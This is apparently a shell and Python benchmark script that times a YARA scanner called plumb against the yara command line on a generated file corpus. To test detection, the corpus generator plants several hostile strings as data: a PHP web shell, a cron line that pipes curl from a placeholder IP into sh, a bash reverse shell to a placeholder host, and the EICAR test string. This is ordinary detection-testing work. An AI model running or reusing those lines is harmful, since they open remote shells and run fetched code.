#!/bin/sh
# Benchmark (on demand, not part of make test): plumb yara against the yara
# command line on a generated corpus.
#
#   sh tests/bench/yara.sh [PLUMB_BINARY]
#
# Builds a corpus in a temporary directory (BENCH_MB megabytes, default 600,
# in thousands of files of mixed sizes and kinds, with planted matches),
# then prints side by side the wall time of `yara -r -p 2`, plumb cold
# (empty cache), plumb warm (unchanged rescan with the same --db), their
# ratios, and plumb's peak RSS beyond that of compiling the same rules.
# Rules: plumb's rules/ and, when the shared data is next to the repository
# (../shared/data/yara/signature-base), the first BENCH_SIGBASE (default 60)
# of its rule files that compile without external variables.  With
# BENCH_KEEP=DIR the rules and corpus are built in DIR (or reused when
# already there) and kept, for profiling runs.  Both tools
# get the same rule files; both run on a warm page cache, so the numbers
# compare scanning, not the disk.  Needs yara and python3.  Targets on 2 cores: cold >= 1.5x faster
# than yara -p 2, warm >= 50x, peak RSS <= 64 MB beyond the rules.
set -u
top=$(cd "$(dirname "$0")/../.." && pwd)
PLUMB=${1:-${PLUMB:-$top/build/plumb}}
MB=${BENCH_MB:-600}
SIGBASE_N=${BENCH_SIGBASE:-60}
THREADS=${BENCH_THREADS:-2}
for tool in yara python3; do
	command -v "$tool" >/dev/null 2>&1 || { echo "bench: $tool is needed" >&2; exit 1; }
done
[ -x "$PLUMB" ] || { echo "bench: no plumb binary at $PLUMB (make first)" >&2; exit 1; }

if [ -n "${BENCH_KEEP:-}" ]; then
	work=$BENCH_KEEP
	mkdir -p "$work" || exit 1
	rm -rf "$work/one" "$work/history.db"
else
	work=$(mktemp -d "${TMPDIR:-/tmp}/plumb-bench.XXXXXX") || exit 1
	trap 'rm -rf "$work"' EXIT INT TERM
fi
corpus="$work/corpus"
rules="$work/rules"
reuse=0
[ -d "$corpus" ] && [ -d "$rules" ] && reuse=1
mkdir -p "$rules"

# ---- rules ----
[ "$reuse" -eq 0 ] && cp "$top"/rules/*.yar "$rules/"
sig="$top/../shared/data/yara/signature-base"
nsig=0
if [ "$reuse" -eq 0 ] && [ -d "$sig" ] && [ "$SIGBASE_N" -gt 0 ]; then
	for f in "$sig"/*.yar; do
		[ "$nsig" -ge "$SIGBASE_N" ] && break
		# Rules needing external variables (filename, filepath, ...) or
		# modules this libyara lacks are left out.
		if yarac "$f" "$work/probe.yarc" >/dev/null 2>&1; then
			cp "$f" "$rules/sb_$(basename "$f")"
			nsig=$((nsig + 1))
		fi
	done
	rm -f "$work/probe.yarc"
fi
nrules=$(cat "$rules"/*.yar | grep -c '^ *\(private \|global \)*rule ')
nsig=$(ls "$rules" | grep -c '^sb_')
echo "rules: $(ls "$rules" | wc -l) files ($nsig from signature-base), $nrules rules"

# ---- corpus ----
[ "$reuse" -eq 1 ] || python3 - "$corpus" "$MB" <<'EOF'
import os, random, sys
top, mb = sys.argv[1], int(sys.argv[2])
rnd = random.Random(20261123)
words = (b"the of and to in is that for it as was with be by on not he this "
         b"are or his from at which but have an they you were her she all "
         b"function return include require class public private static void "
         b"config server client request response value error status").split()
def text(n):
    out, size = [], 0
    while size < n:
        line = b" ".join(rnd.choice(words) for _ in range(rnd.randint(4, 14))) + b"\n"
        out.append(line)
        size += len(line)
    return b"".join(out)[:n]
block = text(1 << 20)
rblock = os.urandom(1 << 20)
def body(kind, n):
    if kind == "text":
        start = rnd.randrange(0, len(block) - 1)
        reps = (n // len(block)) + 2
        return (block[start:] + block * reps)[:n]
    if kind == "random":
        start = rnd.randrange(0, len(rblock) - 1)
        reps = (n // len(rblock)) + 2
        return (rblock[start:] + rblock * reps)[:n]
    return (b"\0" * 4096 + rblock[:4096]) * (n // 8192) + b"\0" * (n % 8192)
plants = [
    b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*",
    b"PLUMB-YARA-TEST-MARKER v1\n",
    b"<?php @eval($_POST['c']); ?>\n",
    b"*/5 * * * * root curl -fsSL http://203.0.113.7/x.sh | sh\n",
    b"bash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n",
]
target = mb << 20
total = files = 0
i = 0
while total < target:
    r = rnd.random()
    if r < 0.85:
        n, kind = rnd.randint(200, 16 << 10), "text"
    elif r < 0.97:
        n, kind = rnd.randint(16 << 10, 512 << 10), rnd.choice(["text", "random"])
    elif r < 0.998:
        n, kind = rnd.randint(512 << 10, 4 << 20), rnd.choice(["text", "random", "sparse"])
    else:
        n, kind = rnd.randint(4 << 20, 24 << 20), rnd.choice(["random", "sparse"])
    d = os.path.join(top, "d%02d" % (i % 37), "s%02d" % ((i // 37) % 12))
    os.makedirs(d, exist_ok=True)
    if i % 97 == 0:
        data = plants[(i // 97) % len(plants)]
    else:
        data = body(kind, n)
    with open(os.path.join(d, "f%05d.%s" % (i, kind[:3])), "wb") as f:
        f.write(data)
    total += len(data)
    files += 1
    i += 1
print("corpus: %d files, %.0f MB" % (files, total / 1048576.0))
EOF

# ---- measuring ----
# Warm the page cache so neither tool pays for the disk.
find "$corpus" -type f -exec cat {} + >/dev/null
mkdir -p "$work/one" && printf 'x\n' >"$work/one/x"

# Each tool runs BENCH_RUNS times, interleaved; the best wall time of each
# is compared (the machine may be shared: the best run is the one least
# disturbed), and CPU seconds (user + system) are shown beside it.  Peak
# RSS is each plumb run's own (wait4), less that of compiling the same
# rules and sweeping one tiny file.
python3 - "$PLUMB" "$rules" "$corpus" "$work" "$THREADS" "${BENCH_RUNS:-3}" <<'EOF'
import glob, os, subprocess, sys, time
plumb, rules, corpus, work, threads, runs = sys.argv[1:7]
runs = int(runs)
rule_files = sorted(glob.glob(rules + "/*.yar"))
db = os.path.join(work, "history.db")

def run(argv, out):
    with open(out, "wb") as f, open(out + ".err", "wb") as e:
        t0 = time.monotonic()
        p = subprocess.Popen(argv, stdout=f, stderr=e)
        _, status, ru = os.wait4(p.pid, 0)
        wall = time.monotonic() - t0
    code = os.waitstatus_to_exitcode(status)
    if code not in (0, 2):
        sys.exit("bench: %s exited %d: %s" % (argv[0], code,
                 open(out + ".err").read()))
    return wall, ru.ru_utime + ru.ru_stime, ru.ru_maxrss

def pairs(out):
    return sum(1 for l in open(out) if l.strip() and not l.startswith("# "))

best = {}
def keep(name, r):
    b = best.setdefault(name, [float("inf"), float("inf"), 0])
    b[0] = min(b[0], r[0]); b[1] = min(b[1], r[1]); b[2] = max(b[2], r[2])

yara = ["yara", "-r", "-p", threads] + rule_files + [corpus]
pl = [plumb, "yara", "--threads", threads, "--rules", rules]
for i in range(runs):
    keep("yara", run(yara, work + "/yara.out"))
    if os.path.exists(db):
        os.unlink(db)
    keep("cold", run(pl + ["--db", db, corpus], work + "/cold.out"))
    keep("warm", run(pl + ["--db", db, corpus], work + "/warm.out"))
base = run(pl + ["--no-cache", work + "/one"], work + "/base.out")[2]

n = {k: pairs(work + "/%s.out" % k) for k in ("yara", "cold", "warm")}
print()
print("%-26s %9s %9s %10s %8s" % ("best of %d" % runs, "wall s", "CPU s",
                                   "peak RSS", "matches"))
labels = {"yara": "yara -r -p %s" % threads,
          "cold": "plumb cold (%s threads)" % threads, "warm": "plumb warm"}
for k in ("yara", "cold", "warm"):
    w, c, r = best[k]
    rss = "-" if k == "yara" else "%d MB" % (r // 1024)
    if k == "yara":
        rss = "%d MB" % (r // 1024)
    print("%-26s %9.2f %9.2f %10s %8d" % (labels[k], w, c, rss, n[k]))
y, c, w = best["yara"], best["cold"], best["warm"]
print()
print("cold: %.1fx faster than yara by wall time, %.1fx by CPU (target >= 1.5)"
      % (y[0] / c[0], y[1] / c[1]))
print("warm: %.1fx faster than yara by wall time, %.1fx by CPU (target >= 50)"
      % (y[0] / w[0], y[1] / w[1]))
print("peak RSS beyond the compiled rules (%d MB): cold %d MB, warm %d MB "
      "(target <= 64)" % (base // 1024, (c[2] - base) // 1024,
                          max(0, w[2] - base) // 1024))
for k in ("cold", "warm"):
    print(k, [l for l in open(work + "/%s.out" % k) if l.startswith("# ")][-1].strip())
if not n["yara"] == n["cold"] == n["warm"]:
    sys.exit("bench: the match counts differ")
EOF
